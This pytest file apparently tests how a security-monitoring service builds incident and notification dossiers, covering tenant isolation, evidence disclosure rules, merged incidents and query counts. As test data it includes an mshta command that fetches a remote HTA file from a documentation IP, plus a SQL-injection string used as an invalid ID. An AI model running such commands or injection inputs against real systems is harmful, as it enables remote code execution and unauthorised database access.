"""From incidents and notifications to a dossier: scoped, with as much of queries as the customer may see, in a fixed number of reads."""

import hashlib
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from huntline.handoff.dossier import Party
from huntline.handoff.gathering import Order, find_subject, gather
from huntline.handoff.models import Part, SubjectKind
from huntline.hunting.models import Disclosure
from huntline.identity import Permission
from huntline.identity.services import scope_of_job
from huntline.incidents.errors import IncidentNotFound, NotificationNotFound
from huntline.incidents.grouping import merge_incidents
from huntline.incidents.revision import withdraw_notification
from huntline.incidents.triage import AlertChange, change_alert
from publishing import QUERY, ROW, enrol, publish, publish_again

pytestmark = pytest.mark.django_db

EVERYTHING = tuple(Part.values)


@pytest.fixture
def admin(cast):
    return enrol(cast)


@pytest.fixture
def job(cast):
    """The scope of the job, which the provider's rules of disclosure do not hold for."""
    return scope_of_job("handoff", (cast.aurora.pk,), frozenset({Permission.ALERT_READ}))


def order(parts=EVERYTHING, language="en"):
    return Order(uuid.uuid4(), Party("Mina"), Party("Bo"), language, parts)


def of_notification(scope, notification, **wanted):
    return gather(scope, SubjectKind.NOTIFICATION, str(notification.pk), order(**wanted))


def of_incident(scope, number, **wanted):
    return gather(scope, SubjectKind.INCIDENT, str(number), order(**wanted))


def row(number):
    other = {
        "DeviceId": f"d{number}" * 20,
        "DeviceName": f"ws{number}.aurora.example",
        "AccountName": f"user{number}",
        "ReportId": number,
    }
    return ROW | other


class TestNotification:
    def test_says_what_the_notification_says(self, admin, job, cast):
        told = publish(cast)
        dossier = of_notification(job, told)
        (story,) = dossier.stories
        assert dossier.subject.id == str(told.pk)
        assert dossier.subject.url.endswith(f"/tenants/aurora/notifications/{told.pk}")
        assert (dossier.customer, dossier.provider) == ("Aurora Grid", "Watchtower")
        assert (story.alert_id, story.summary, story.steps) == (told.alert_id, told.summary, told.recommended_steps)
        assert dossier.techniques == ["T1218.005", "T1566"]
        assert [device.name for device in dossier.devices] == ["ws01.aurora.example"]
        assert [(one.domain, one.name) for one in dossier.accounts] == [("AURORA", "mina")]
        assert "mshta.exe http://203.0.113.9/x.hta" in {process.command_line for process in dossier.processes}
        assert [one.kind for one in dossier.timeline] == ["event", "alert"]
        assert dossier.timeline[0].report_id == 77

    def test_versions_and_withdrawal_are_in_the_timeline(self, admin, job, cast, scope_of):
        told = publish(cast)
        publish_again(cast, told, change_note="It was another device.")
        withdraw_notification(scope_of("hunt_lead", "aurora"), told.pk, "A test of ours.")
        dossier = of_notification(job, told)
        kinds = {one.kind: one.text for one in dossier.timeline if one.kind != "event"}
        assert kinds["version"] == "It was another device."
        assert kinds["withdrawal"] == "A test of ours."
        assert dossier.stories[0].withdrawn == "A test of ours."

    def test_comments_go_in_where_they_were_chosen(self, admin, job, cast):
        told = publish(cast)
        change_alert(admin, told.alert_id, AlertChange(comment="Is it contained?"))
        assert of_notification(job, told, parts=[Part.EVIDENCE]).messages == []
        assert of_notification(job, told, parts=[Part.EVIDENCE]).left_out == ["comments"]
        (message,) = of_notification(job, told).messages
        assert (message.text, message.author, message.about) == (
            "Is it contained?",
            "admin@aurora.example",
            told.alert_id,
        )

    def test_of_nobody_of_another_tenant_or_no_id(self, admin, job, cast):
        enrol(cast, "bluefin")
        foreign = publish(cast, "bluefin")
        for wrong in (str(foreign.pk), str(uuid.uuid4()), "x", "", "' OR 1=1"):
            with pytest.raises(NotificationNotFound):
                find_subject(job, SubjectKind.NOTIFICATION, wrong)
            with pytest.raises(NotificationNotFound):
                gather(job, SubjectKind.NOTIFICATION, wrong, order())


class TestDisclosure:
    @pytest.mark.parametrize(
        ("disclosure", "query", "with_hash"),
        [(Disclosure.FULL, QUERY, True), (Disclosure.HASH, None, True), (Disclosure.NONE, None, False)],
    )
    @pytest.mark.parametrize("part", ["job", "hunter", "aurora_admin"])
    def test_is_the_customers_whoever_makes_it(self, admin, job, cast, scope_of, part, disclosure, query, with_hash):
        told = publish(cast, disclosure=disclosure)
        scope = job if part == "job" else scope_of(part, "aurora")
        (evidence,) = of_notification(scope, told).evidence
        assert evidence.query == query
        assert (evidence.query_sha256 is not None) is (evidence.sql_sha256 is not None) is with_hash
        assert bool(evidence.tables) is (query is not None)
        assert hashlib.sha256(evidence.open_rows()).hexdigest() == evidence.rows_sha256

    def test_evidence_stays_out_where_it_was_not_chosen(self, admin, job, cast):
        assert of_notification(job, publish(cast), parts=[]).evidence == []


class TestIncident:
    def test_holds_all_its_alerts_and_each_thing_once(self, admin, job, cast):
        first = publish(cast)
        second = publish(cast, rows=[ROW, row(2)])
        assert second.alert.incident_id == first.alert.incident_id  # they share a device
        dossier = of_incident(job, first.alert.incident_id)
        assert {story.alert_id for story in dossier.stories} == {first.alert_id, second.alert_id}
        devices = {device.name: set(device.alerts) for device in dossier.devices}
        assert devices == {
            "ws01.aurora.example": {first.alert_id, second.alert_id},
            "ws2.aurora.example": {second.alert_id},
        }
        assert len(dossier.evidence) == 2
        assert dossier.timeline == sorted(dossier.timeline, key=lambda one: one.at)

    def test_one_that_was_merged_leads_to_the_one_that_has_its_alerts(self, admin, job, cast):
        first, second = publish(cast), publish(cast, rows=[row(5)])
        numbers = first.alert.incident_id, second.alert.incident_id
        assert numbers[0] != numbers[1]
        merge_incidents(admin, list(numbers))
        subject = find_subject(job, SubjectKind.INCIDENT, str(numbers[1]))
        assert subject.id == str(numbers[0])
        assert len(of_incident(job, numbers[1]).stories) == 2

    def test_of_nobody_of_another_tenant_or_no_number(self, admin, job, cast):
        enrol(cast, "bluefin")
        foreign = publish(cast, "bluefin").alert.incident_id
        for wrong in (str(foreign), "0", "99999999", "x", "-1", "9" * 40, ""):
            with pytest.raises(IncidentNotFound):
                find_subject(job, SubjectKind.INCIDENT, wrong)

    def test_the_number_of_reads_does_not_grow(self, admin, job, cast):
        def reads(number):
            with CaptureQueriesContext(connection) as captured:
                dossier = of_incident(job, number)
            return len(dossier.stories), len(captured)

        number = publish(cast).alert.incident_id
        one, before = reads(number)
        for _ in range(3):
            publish(cast, rows=[ROW, row(3), row(4)])
        four, after = reads(number)
        assert (one, four) == (1, 4)
        assert after == before
